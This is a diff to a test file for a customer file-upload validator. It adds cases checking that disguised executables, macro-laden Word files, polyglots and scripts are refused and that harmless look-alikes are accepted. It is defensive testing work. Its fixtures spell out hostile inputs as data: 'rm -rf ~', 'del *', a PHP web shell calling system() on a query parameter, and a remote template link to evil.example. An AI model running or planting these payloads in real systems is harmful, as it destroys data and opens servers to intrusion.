@@ -1,4 +1,4 @@
-import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { setTimeout as wait } from 'node:timers/promises';
@@ -13,8 +13,10 @@ import {
   SAMPLE_MP4,
   SAMPLE_PDF,
   SAMPLE_WEBM,
+  sampleCompound,
   sampleDocx,
   samplePng,
+  sampleZip,
 } from '#support/sample-files.ts';
 
 const dir = mkdtempSync(join(tmpdir(), 'taana-upload-'));
@@ -119,6 +121,58 @@ test.each([
   ['a field that is too long', { name: 'subject', content: 'x'.repeat(10_001) }, 'That is too long to take.'],
 ])('refuses %s', async (_what, part, message) => {
   expect(await refusalOf(multipartBody([file('ok.png', 'image/png', png), part]))).toBe(message);
+});
+
+const MACRO_TYPES =
+  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
+const OUTER_TEMPLATE =
+  '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>';
+const A_ZIP = sampleZip([{ name: 'Main.class', content: 'x' }]);
+const word = (name: string, content = 'x') => sampleDocx(undefined, [{ name, content }]);
+
+test.each([
+  ['an exe of printable characters', 'a.txt', `MZ${'x'.repeat(100)}`],
+  ['an exe', 'a.txt', SAMPLE_EXE],
+  ['an ELF program', 'a.txt', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(9, 1)])],
+  ['a shell script', 'a.txt', '#!/bin/sh\nrm -rf ~\n'],
+  ['a batch file', 'a.txt', '@echo off\r\ndel *\r\n'],
+  ['a page', 'a.txt', '\n<script>1</script>'],
+  ['a PHP script', 'a.txt', '<?php system($_GET[1]);'],
+  ['an RTF letter', 'a.txt', '{\\rtf1 {\\object}}'],
+  ['a PDF', 'a.txt', SAMPLE_PDF],
+  ['control characters', 'a.txt', 'a\x1b[2Jb'],
+  ['a text with a Java program at its end', 'a.txt', Buffer.concat([Buffer.from('Dear shop\n'), A_ZIP])],
+  ['a PDF with a Java program at its end', 'a.pdf', Buffer.concat([SAMPLE_PDF, A_ZIP])],
+  ['a film with a Java program at its end', 'a.mp4', Buffer.concat([SAMPLE_MP4, A_ZIP])],
+  ['a letter with macros', 'a.docx', word('word/vbaProject.bin')],
+  ['a letter with macros in capitals', 'a.docx', word('word/VBAPROJECT.BIN')],
+  ['a letter with macro data', 'a.docx', word('word/vbaData.xml')],
+  ['a letter declared with macros', 'a.docx', sampleDocx(undefined, [], MACRO_TYPES)],
+  ['a letter without a type of its own', 'a.docx', sampleDocx(undefined, [], '<Types/>')],
+  ['a letter with a control', 'a.docx', word('word/activeX/activeX1.bin')],
+  ['a letter with a packed program', 'a.docx', word('word/embeddings/oleObject1.bin')],
+  ['a letter with a script', 'a.docx', word('word/media/run.js')],
+  ['a letter whose macros lie elsewhere', 'a.docx', word('word/_rels/settings.xml.rels', OUTER_TEMPLATE)],
+  ['a letter with two main parts', 'a.docx', word('word/Document.xml')],
+  ['a letter before which something stands', 'a.docx', Buffer.concat([A_ZIP.subarray(0, 40), sampleDocx()])],
+  ['a letter after which something stands', 'a.docx', Buffer.concat([sampleDocx(), Buffer.from('<script>')])],
+  ['a sheet of old Excel', 'a.doc', sampleCompound('Workbook')],
+  ['an installer', 'a.doc', sampleCompound('!_StringData', '!_Tables')],
+  ['an old letter with macros', 'a.doc', sampleCompound('WordDocument', 'Macros', '_VBA_PROJECT')],
+])('no program comes as a file of a customer: %s', async (_what, name, content) => {
+  expect(await refusalOf(multipartBody([file(name, 'application/octet-stream', content)]))).toBe(
+    `File type not allowed: ${name}`,
+  );
+});
+
+test.each([
+  ['a letter in Hindi', 'a.txt', '\ufeffनमस्ते,\r\n\tMZ and ELF are letters too. 1 < 2 <script>\f#!\n'],
+  ['a letter with a picture and a sheet', 'a.docx', word('word/embeddings/Sheet1.xlsx')],
+  ['an old letter that speaks of macros', 'a.doc', Buffer.concat([SAMPLE_DOC, Buffer.from('Macros', 'utf16le')])],
+])('and what only looks like one is taken: %s', async (_what, name, content) => {
+  expect(await refusalOf(multipartBody([file(name, 'application/octet-stream', content)]))).toBe('taken');
+  rmSync(dir, { recursive: true });
+  mkdirSync(dir);
 });
 
 test('refuses the 21st file, 10,000 parts and too many fields', async () => {
